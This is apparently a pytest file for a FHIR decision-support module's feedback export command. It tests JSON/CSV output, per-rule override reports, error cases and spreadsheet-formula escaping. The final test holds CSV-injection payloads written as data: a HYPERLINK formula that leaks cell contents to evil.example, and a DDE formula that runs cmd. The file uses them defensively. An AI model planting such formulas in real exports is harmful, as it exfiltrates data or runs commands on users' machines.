"""`fhir-module feedback export`: the items clinicians sent, and the override rate of each rule,
from the database a real service stored them in."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx

from tests.api.test_api_feedback_issued import call, item

TOPICS = "http://fhir-module.org/fhir/CodeSystem/levomilnacipran-rule-topic"


def export(*args: str, database: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "FHIR_MODULE_DATABASE_URL": database}
    return subprocess.run([sys.executable, "-m", "fhir_module.cli", "feedback", "export", *args],
                          capture_output=True, text=True, env=env, timeout=120)


def test_items_and_the_per_rule_report(live: Any, discovery: dict[str, Any], tmp_db: str, tmp_path: Path) -> None:
    with live() as url:
        sid, dose = call(url, "pub-max-dose", discovery)
        feedback = []
        for name in ("pub-max-dose", "pub-renal-moderate", "pub-pediatric"):  # three cards overridden or accepted
            _, answer = call(url, name, discovery)
            card = answer["cards"][0]
            feedback.append(item(card, overrideReason={"reason": card["overrideReasons"][0]}))
        _, maoi = call(url, "pub-maoi-active", discovery)
        maoi_card = maoi["cards"][0]
        feedback.append(item(maoi_card, outcome="accepted", acceptedSuggestions=[{"id": maoi_card["suggestions"][0]["uuid"]}]))
        answer = httpx.post(f"{url}/cds-services/{sid}/feedback", json={"feedback": feedback})
        assert answer.status_code == 200, answer.text

    items = export("--format", "json", database=tmp_db)
    assert items.returncode == 0, items.stderr
    rows = json.loads(items.stdout)
    assert [r["card"] for r in rows] == [f["card"] for f in feedback]
    assert {r["service"] for r in rows} == {sid}
    assert rows[-1]["outcome"] == "accepted" and rows[-1]["acceptedSuggestions"] == [maoi_card["suggestions"][0]["uuid"]]
    assert rows[-1]["rule"] == f"{TOPICS}|maoi-washout"

    report = export("--report", database=tmp_db)
    assert report.returncode == 0, report.stderr
    lines = list(csv.DictReader(io.StringIO(report.stdout)))
    by_rule = {line["rule"]: line for line in lines}
    maoi_row = by_rule[f"{TOPICS}|maoi-washout"]
    assert (maoi_row["accepted"], maoi_row["overridden"], maoi_row["overrideRate"]) == ("1", "0", "0.0")
    overridden = [line for line in lines if line["overridden"] != "0"]
    assert sum(int(line["overridden"]) for line in overridden) == 3
    code = feedback[0]["overrideReason"]["reason"]["code"]
    for line in overridden:
        assert (line["overrideRate"], line["reasons"]) == ("1.0", f"{code}: {line['overridden']}"), line
    assert lines[0]["overrideRate"] == "1.0"  # the most overridden first

    output = tmp_path / "report.json"
    assert export("--report", "--format", "json", "-o", str(output), database=tmp_db).returncode == 0
    assert {r["rule"] for r in json.loads(output.read_text())} == set(by_rule)
    assert export("--service", "no-such-service", "--format", "json", database=tmp_db).stdout.strip() == "[]"


def test_export_errors(tmp_path: Path, tmp_db: str) -> None:
    missing = export(database=f"sqlite:///{tmp_path / 'none.sqlite3'}")
    assert missing.returncode == 2 and "no feedback database" in missing.stderr
    assert not (tmp_path / "none.sqlite3").exists()  # not created by looking
    assert export(database="mysql://x/y").returncode == 2
    from fhir_module.feedback import store_from_url

    store_from_url(tmp_db).close()
    unwritable = export("-o", str(tmp_path / "no-such-dir" / "out.csv"), database=tmp_db)
    assert unwritable.returncode == 1 and "cannot write" in unwritable.stderr
    empty = export(database=tmp_db)
    assert empty.returncode == 0 and empty.stdout.startswith("id,service,rule,card,outcome")


def test_csv_cells_cannot_run_as_spreadsheet_formulas(live: Any, discovery: dict[str, Any], tmp_db: str) -> None:
    """A comment typed in the EHR is free text: in CSV a cell starting with = + - @ would run as a
    formula in the spreadsheet a quality officer opens it in (OWASP "CSV injection"). JSON keeps it."""
    comments = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                "\tindented", "fine, \"quoted\"\nover two lines"]
    with live() as url:
        sent = []
        for comment in comments:
            sid, answer = call(url, "pub-max-dose", discovery, hook_instance=os.urandom(8).hex())
            card = answer["cards"][0]
            sent.append(item(card, overrideReason={"reason": card["overrideReasons"][0], "userComment": comment}))
        assert httpx.post(f"{url}/cds-services/{sid}/feedback", json={"feedback": sent}).status_code == 200
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv", database=tmp_db).stdout)))
    assert [r["userComment"] for r in rows] == ["'" + c for c in comments[:5]] + [comments[5]]
    assert [r["userComment"] for r in json.loads(export("--format", "json", database=tmp_db).stdout)] == comments
